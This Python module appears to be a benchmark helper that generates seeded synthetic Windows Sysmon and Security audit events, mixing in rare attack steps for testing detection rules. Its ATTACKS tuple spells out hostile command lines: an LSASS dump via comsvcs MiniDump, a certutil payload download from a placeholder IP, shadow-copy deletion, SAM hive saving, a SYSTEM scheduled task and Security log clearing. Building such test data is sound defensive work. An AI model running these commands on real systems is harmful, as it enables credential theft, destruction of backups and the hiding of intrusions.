"""Realistic Windows events where no samples are given: what servers and desks write all day, and a few attacks in it.

In: a seed and a number. Out: events for `evtx_writer`, the same ones every time. Proportions are roughly those of a
host with Sysmon and an audit policy: images loaded, registry values, logons, processes, connections, handles, names,
files, services, scripts. About one event in two hundred is a step of an attack that published Sigma rules look for.
"""

from __future__ import annotations

import random
from collections.abc import Callable, Iterator
from datetime import UTC, datetime, timedelta

from benchmarks.evtx_writer import Event

START = datetime(2021, 3, 1, 6, 0, tzinfo=UTC)
SYSMON = "Microsoft-Windows-Sysmon/Operational"
SYSTEM32 = "C:\\Windows\\System32\\"
HOSTS = tuple(f"{kind}{number:02}.corp.example" for kind in ("DC", "EX", "FS", "WS") for number in range(1, 5))
USERS = ("a.ward", "b.okafor", "c.lindqvist", "d.moreau", "svc_backup", "svc_sql", "e.tanaka", "f.haddad")
ORDINARY = (
    ("svchost.exe", "-k netsvcs -p -s Schedule", "services.exe"),
    ("svchost.exe", "-k LocalServiceNetworkRestricted -p", "services.exe"),
    ("conhost.exe", "0xffffffff -ForceV1", "cmd.exe"),
    ("taskhostw.exe", "SYSTEM", "svchost.exe"),
    ("wmiprvse.exe", "-secured -Embedding", "svchost.exe"),
    ("backgroundTaskHost.exe", "-ServerName:App.AppX.mca", "svchost.exe"),
    ("cmd.exe", "/c net use Z: \\\\FS01\\homes", "explorer.exe"),
    ("ipconfig.exe", "/all", "cmd.exe"),
    ("notepad.exe", "C:\\Users\\Public\\notes-{n}.txt", "explorer.exe"),
    ("msiexec.exe", "/i C:\\Deploy\\agent-{n}.msi /qn", "services.exe"),
)
ATTACKS = (
    ("cmd.exe", "/c whoami /all & net group \"Domain Admins\" /domain", "w3wp.exe"),
    ("WindowsPowerShell\\v1.0\\powershell.exe", "-nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA", "w3wp.exe"),
    ("rundll32.exe", "C:\\windows\\system32\\comsvcs.dll, MiniDump {n} C:\\windows\\temp\\l.dmp full", "cmd.exe"),
    ("certutil.exe", "-urlcache -split -f http://203.0.113.{o}/a.exe C:\\Users\\Public\\a.exe", "cmd.exe"),
    ("vssadmin.exe", "delete shadows /all /quiet", "cmd.exe"),
    ("schtasks.exe", "/create /tn upd{n} /tr C:\\Users\\Public\\a.exe /sc minute /ru SYSTEM", "cmd.exe"),
    ("reg.exe", "save hklm\\sam C:\\windows\\temp\\sam.save", "cmd.exe"),
    ("wevtutil.exe", "cl Security", "cmd.exe"),
)  # fmt: skip
MODULES = (
    "kernel32.dll",
    "ntdll.dll",
    "amsi.dll",
    "clr.dll",
    "vaultcli.dll",
    "dbghelp.dll",
    "wbemcomn.dll",
    "netapi32.dll",
)
NAMES = ("update.corp.example", "login.vendor.example", "cdn.example.net", "telemetry.example.org", "mail.example.com")
Fields = list[tuple[str | None, str]]
Made = tuple[str, str, int, Fields]


def _identity(dice: random.Random) -> str:
    return "{{{:08x}-{:04x}-{:04x}-{:04x}-{:012x}}}".format(*(dice.getrandbits(bits) for bits in (32, 16, 16, 16, 48)))


def _hashes(dice: random.Random) -> str:
    return f"MD5={dice.getrandbits(128):032X},SHA256={dice.getrandbits(256):064X},IMPHASH={dice.getrandbits(128):032X}"


def _process(dice: random.Random, *, attack: bool = False) -> tuple[str, str, str]:
    image, command, parent = dice.choice(ATTACKS if attack else ORDINARY)
    command = command.format(n=dice.randrange(100, 9000), o=dice.randrange(1, 250))
    worker = parent == "w3wp.exe"
    return (
        SYSTEM32 + image,
        f"{image.rpartition(chr(92))[2]} {command}",
        SYSTEM32 + ("inetsrv\\" if worker else "") + parent,
    )


def _sysmon(dice: random.Random, number: int, time: str, fields: Fields) -> Made:
    head: Fields = [
        ("RuleName", "-"), ("UtcTime", time), ("ProcessGuid", _identity(dice)),
        ("ProcessId", str(dice.randrange(4, 9999))),
    ]  # fmt: skip
    return SYSMON, "Microsoft-Windows-Sysmon", number, head + fields


def _sysmon_process(dice: random.Random, time: str, *, attack: bool = False) -> Made:
    image, command, parent = _process(dice, attack=attack)
    return _sysmon(dice, 1, time, [
        ("Image", image), ("FileVersion", "10.0.17763.1"), ("Description", "Windows"),
        ("Product", "Microsoft® Windows® Operating System"), ("Company", "Microsoft Corporation"),
        ("OriginalFileName", image.rpartition("\\")[2]), ("CommandLine", command), ("CurrentDirectory", SYSTEM32),
        ("User", f"CORP\\{dice.choice(USERS)}"), ("LogonId", hex(dice.randrange(1 << 20))), ("TerminalSessionId", "1"),
        ("IntegrityLevel", dice.choice(("Medium", "High", "System"))), ("Hashes", _hashes(dice)),
        ("ParentProcessId", str(dice.randrange(4, 9999))), ("ParentImage", parent), ("ParentCommandLine", parent),
    ])  # fmt: skip


def _audited_process(dice: random.Random, time: str, *, attack: bool = False) -> Made:
    image, command, parent = _process(dice, attack=attack)
    return _audit(4688, [
        ("SubjectUserSid", f"S-1-5-21-1004336348-1177238915-682003330-{dice.randrange(1000, 1200)}"),
        ("SubjectUserName", dice.choice(USERS)), ("SubjectDomainName", "CORP"),
        ("SubjectLogonId", hex(dice.randrange(1 << 20))), ("NewProcessId", hex(dice.randrange(4, 9999))),
        ("NewProcessName", image), ("TokenElevationType", "%%1936"), ("ProcessId", hex(dice.randrange(4, 9999))),
        ("CommandLine", command), ("ParentProcessName", parent), ("MandatoryLabel", "S-1-16-12288"),
    ])  # fmt: skip


def _audit(number: int, fields: Fields) -> Made:
    return "Security", "Microsoft-Windows-Security-Auditing", number, fields


def _module(dice: random.Random, time: str) -> Made:
    name = dice.choice(MODULES)
    return _sysmon(dice, 7, time, [
        ("Image", _process(dice)[0]), ("ImageLoaded", SYSTEM32 + name), ("FileVersion", "10.0.17763.1"),
        ("Description", "-"), ("Company", "Microsoft Corporation"), ("OriginalFileName", name),
        ("Hashes", _hashes(dice)), ("Signed", "true"), ("Signature", "Microsoft Windows"), ("SignatureStatus", "Valid"),
    ])  # fmt: skip


def _connection(dice: random.Random, time: str) -> Made:
    return _sysmon(dice, 3, time, [
        ("Image", _process(dice)[0]), ("User", f"CORP\\{dice.choice(USERS)}"), ("Protocol", "tcp"),
        ("Initiated", "true"),
        ("SourceIsIpv6", "false"), ("SourceIp", f"10.0.{dice.randrange(4)}.{dice.randrange(255)}"),
        ("SourcePort", str(dice.randrange(49152, 65535))), ("DestinationIsIpv6", "false"),
        ("DestinationIp", f"198.51.100.{dice.randrange(255)}"), ("DestinationHostname", dice.choice(NAMES)),
        ("DestinationPort", dice.choice(("443", "80", "53", "445", "389"))),
    ])  # fmt: skip


def _file(dice: random.Random, time: str) -> Made:
    target = f"C:\\Users\\{dice.choice(USERS)}\\AppData\\Local\\Temp\\{dice.getrandbits(40):x}.tmp"
    return _sysmon(
        dice, 11, time, [("Image", _process(dice)[0]), ("TargetFilename", target), ("CreationUtcTime", time)]
    )


def _registry(dice: random.Random, time: str) -> Made:
    key = f"HKLM\\System\\CurrentControlSet\\Services\\bam\\State\\UserSettings\\S-1-5-21-{dice.randrange(9999)}\\Seq"
    return _sysmon(dice, 13, time, [
        ("EventType", "SetValue"), ("Image", _process(dice)[0]), ("TargetObject", key),
        ("Details", f"DWORD (0x{dice.getrandbits(32):08x})"),
    ])  # fmt: skip


def _query(dice: random.Random, time: str) -> Made:
    return _sysmon(dice, 22, time, [
        ("QueryName", dice.choice(NAMES)), ("QueryStatus", "0"),
        ("QueryResults", f"::ffff:198.51.100.{dice.randrange(255)};"), ("Image", _process(dice)[0]),
    ])  # fmt: skip


def _handle(dice: random.Random, time: str) -> Made:
    return _sysmon(dice, 10, time, [
        ("SourceImage", _process(dice)[0]),
        ("TargetImage", SYSTEM32 + dice.choice(("lsass.exe", "svchost.exe"))),
        ("GrantedAccess", dice.choice(("0x1000", "0x1400", "0x1fffff"))),
        ("CallTrace", f"C:\\Windows\\SYSTEM32\\ntdll.dll+9{dice.randrange(9999)}|KERNELBASE.dll+2{dice.randrange(99)}"),
    ])  # fmt: skip


def _logon(dice: random.Random, time: str) -> Made:
    good = dice.random() < 0.9
    return _audit(4624 if good else 4625, [
        ("SubjectUserSid", "S-1-0-0"), ("SubjectUserName", "-"), ("TargetUserName", dice.choice(USERS)),
        ("TargetDomainName", "CORP"), ("TargetLogonId", hex(dice.randrange(1 << 24))),
        ("LogonType", dice.choice(("2", "3", "3", "3", "5", "10"))), ("LogonProcessName", "Kerberos"),
        ("AuthenticationPackageName", dice.choice(("Kerberos", "NTLM"))), ("WorkstationName", dice.choice(HOSTS)),
        ("IpAddress", f"10.0.{dice.randrange(4)}.{dice.randrange(255)}"), ("IpPort", str(dice.randrange(49152, 65535))),
    ])  # fmt: skip


def _share(dice: random.Random, time: str) -> Made:
    return _audit(5145, [
        ("SubjectUserName", dice.choice(USERS)), ("SubjectDomainName", "CORP"), ("ObjectType", "File"),
        ("IpAddress", f"10.0.{dice.randrange(4)}.{dice.randrange(255)}"), ("ShareName", "\\\\*\\homes"),
        ("RelativeTargetName", f"{dice.choice(USERS)}\\plan-{dice.randrange(999)}.docx"), ("AccessMask", "0x120089"),
    ])  # fmt: skip


def _script(dice: random.Random, time: str) -> Made:
    text = f"$items = Get-ChildItem C:\\Data\\{dice.randrange(999)} -Recurse\r\nforeach ($i in $items) {{ $i.Name }}"
    return "Microsoft-Windows-PowerShell/Operational", "Microsoft-Windows-PowerShell", 4104, [
        ("MessageNumber", "1"), ("MessageTotal", "1"), ("ScriptBlockText", text), ("ScriptBlockId", _identity(dice)),
        ("Path", f"C:\\Scripts\\inventory-{dice.randrange(99)}.ps1"),
    ]  # fmt: skip


def _service(dice: random.Random, time: str) -> Made:
    return "System", "Service Control Manager", 7036, [
        ("param1", dice.choice(("Windows Update", "BITS", "Print Spooler"))),
        ("param2", dice.choice(("running", "stopped"))),
    ]  # fmt: skip


_KINDS: tuple[tuple[Callable[[random.Random, str], Made], int], ...] = (
    (_module, 26), (_registry, 18), (_logon, 12), (_sysmon_process, 9), (_audited_process, 7), (_connection, 8),
    (_handle, 6), (_query, 5), (_file, 5), (_share, 3), (_service, 2), (_script, 1),
)  # fmt: skip


def events(count: int, *, seed: int = 1) -> Iterator[Event]:
    """Yield so many events, in the order of their times."""
    dice = random.Random(seed)
    makers, weights = zip(*_KINDS, strict=True)
    moment = START
    for _ in range(count):
        moment += timedelta(milliseconds=dice.randrange(1, 900))
        time = moment.strftime("%Y-%m-%d %H:%M:%S.%f")[:-3]
        if dice.random() < 0.005:
            made = dice.choice((_sysmon_process, _audited_process))(dice, time, attack=True)
        else:
            made = dice.choices(makers, weights)[0](dice, time)
        channel, provider, number, fields = made
        yield Event(channel, provider, number, moment, dice.choice(HOSTS), tuple(fields))
